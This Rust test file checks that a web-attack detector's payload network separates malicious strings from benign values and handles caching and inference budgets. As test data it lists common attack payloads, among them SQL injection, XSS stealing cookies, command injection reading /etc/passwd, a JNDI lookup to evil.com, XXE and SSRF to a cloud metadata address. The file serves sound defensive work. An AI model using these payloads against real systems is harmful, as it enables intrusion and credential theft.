//! The shipped payload network as the filter runs it.

use apiward_detector::bundle::BundleError;
use apiward_detector::exchange::Exchange;
use apiward_detector::hashing::KeyedHasher;
use apiward_detector::observation::{Location, Observation, Observer, PayloadValue};
use apiward_detector::payload::{
    Evidence, PayloadCache, PayloadCalibration, PayloadClass, PayloadNetwork, PayloadScore, PayloadScorer,
};
use apiward_detector::work::WorkBudget;
use apiward_models::{Autoencoder, PAYLOAD_NETWORK};

fn network() -> PayloadNetwork {
    PayloadNetwork::load(PAYLOAD_NETWORK).unwrap()
}

fn cache() -> PayloadCache {
    PayloadCache::new(256, [7; 16])
}

fn score(texts: &[&str]) -> Vec<Option<PayloadScore>> {
    network().score(texts, &mut cache(), &mut WorkBudget::default())
}

#[test]
fn plain_attacks_are_told_with_their_class_from_benign_values() {
    let attacks = [
        ("1' or '1'='1' -- ", PayloadClass::Sqli),
        ("1 union all select null,username,password from users--", PayloadClass::Sqli),
        ("<script>alert(1)</script>", PayloadClass::Xss),
        ("\"><img src=x onerror=alert(document.cookie)>", PayloadClass::Xss),
        ("; cat /etc/passwd", PayloadClass::CommandInjection),
        ("../../../../etc/passwd", PayloadClass::PathTraversal),
        ("{{7*7}}", PayloadClass::TemplateInjection),
        ("${jndi:ldap://evil.com/a}", PayloadClass::CodeInjection),
        ("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", PayloadClass::Xxe),
        ("http://169.254.169.254/latest/meta-data/", PayloadClass::Ssrf),
        ("*)(uid=*))(|(uid=*", PayloadClass::LdapInjection),
        ("a\r\nSet-Cookie: a=b", PayloadClass::HeaderInjection),
        ("{\"$ne\":null}", PayloadClass::Nosqli),
    ];
    for (text, class) in attacks {
        let score = score(&[text])[0].unwrap();
        assert!(score.attack > 0.0, "{text}: {score:?}");
        assert_eq!(score.class, class, "{text}: {score:?}");
    }
    let benign = [
        "Sinéad O'Connor",
        "Please select a table from the union hall; or call us",
        "https://example.com/a?b=c&d=e",
        "<p>Hello <b>world</b></p>",
        "C:\\Users\\anna\\Documents\\report (1).pdf",
    ];
    for text in benign {
        let score = score(&[text])[0].unwrap();
        assert!(score.attack < 0.0, "{text}: {score:?}");
    }
}

#[test]
fn a_text_has_the_same_score_alone_in_a_batch_and_from_the_cache() {
    let texts: Vec<String> = (0..40).map(|number| format!("{number}' or {number}={number} --")).collect();
    let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
    let (network, mut cache) = (network(), cache());
    let mut budget = WorkBudget::default();
    let together = network.score(&texts, &mut cache, &mut budget);
    for (text, score) in texts.iter().zip(&together) {
        let alone = network.score(&[text], &mut PayloadCache::new(8, [1; 16]), &mut WorkBudget::default())[0].unwrap();
        assert!((alone.attack - score.unwrap().attack).abs() < 1e-4, "{text}");
    }
    // Were they not cached, there would be no score now.
    let mut spent = WorkBudget::default();
    while spent.take_inference() {}
    assert_eq!(network.score(&texts, &mut cache, &mut spent), together);
}

#[test]
fn what_is_left_unscored_is_a_finding_of_its_own() {
    let hasher = KeyedHasher::new(b"0123456789abcdef").unwrap();
    let scorer = PayloadScorer::load(PAYLOAD_NETWORK).unwrap();
    // More windows than the inferences of one exchange take, each of them different.
    let values: Vec<PayloadValue> = (0..3000)
        .map(|number| PayloadValue {
            location: Location::Body,
            name: format!("f{number}"),
            text: format!("a = b{number} + (c * {number});"),
        })
        .collect();
    let observe = |values: &[PayloadValue]| {
        scorer.observe(values, &hasher, Evidence::default(), &mut WorkBudget::default()).has_unscored
    };
    assert!(observe(&values) && !observe(&values[..100]));

    let exchange = Exchange::default();
    let mut observation = Observer::observe(&exchange, &hasher);
    let calibration = PayloadCalibration { threshold: Some(0.0), fields: Vec::new() };
    let judge = |observation: &Observation| calibration.judge(&[], None, "GET /", 1e-3, observation).findings;
    assert!(judge(&observation).is_empty());
    observation.payloads_unscored = true;
    let findings = judge(&observation);
    assert!(findings.len() == 1 && findings[0].alarm && findings[0].reason.contains("than is looked at"));
}

#[test]
fn without_budget_there_is_no_score_but_for_plain_values() {
    let mut spent = WorkBudget::default();
    while spent.take_inference() {}
    let scores = network().score(&["blue", "' or 1=1"], &mut cache(), &mut spent);
    assert_eq!(scores, [Some(PayloadScore::PLAIN), None]);
}

#[test]
fn the_cache_is_bounded() {
    let (network, mut cache) = (network(), PayloadCache::new(10, [7; 16]));
    for number in 0..100 {
        network.score(&[&format!("({number})")], &mut cache, &mut WorkBudget::default());
        assert!(cache.len() <= 10);
    }
    assert!(!cache.is_empty());
}

#[test]
fn an_attack_in_a_long_text_is_found() {
    let mut text = "A long and quite harmless description, with a comma here and there. ".repeat(300);
    assert!(score(&[&text])[0].unwrap().attack < 0.0);
    text.insert_str(9000, "' union select login, password from users where 'a'='a");
    let score = score(&[&text])[0].unwrap();
    assert!(score.attack > 0.0 && score.class == PayloadClass::Sqli, "{score:?}");
}

#[test]
fn networks_of_another_kind_are_refused_by_name() {
    let other = Autoencoder::for_features(6).unwrap();
    let onnx = other.inference_onnx(&other.initial_parameters(1).unwrap(), 1).unwrap();
    match PayloadNetwork::load(&onnx).unwrap_err() {
        BundleError::Network { network, .. } => assert_eq!(network, "payload"),
        error => panic!("{error}"),
    }
    assert!(PayloadNetwork::load(&PAYLOAD_NETWORK[..1000]).is_err());
}
